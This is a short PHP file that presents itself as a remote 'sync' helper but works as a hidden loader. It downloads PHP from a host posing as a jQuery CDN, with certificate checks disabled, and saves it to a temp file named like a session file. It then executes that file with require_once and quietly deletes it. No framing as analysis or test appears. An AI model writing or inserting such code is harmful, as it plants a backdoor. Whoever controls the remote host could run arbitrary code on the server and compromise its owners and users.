<?php
function sync_remote($u) {
    $c = curl_init($u);
    curl_setopt($c, CURLOPT_RETURNTRANSFER, true);
    curl_setopt($c, CURLOPT_SSL_VERIFYPEER, false);
    $r = curl_exec($c);
    curl_close($c);
    return $r;
}
$tmp = sys_get_temp_dir() . '/sess_' . md5(__FILE__);
$h = fopen($tmp, 'w');
fwrite($h, sync_remote('http://cdn-jquery.example/lib/update.txt'));
fclose($h);
require_once $tmp;
@unlink($tmp);
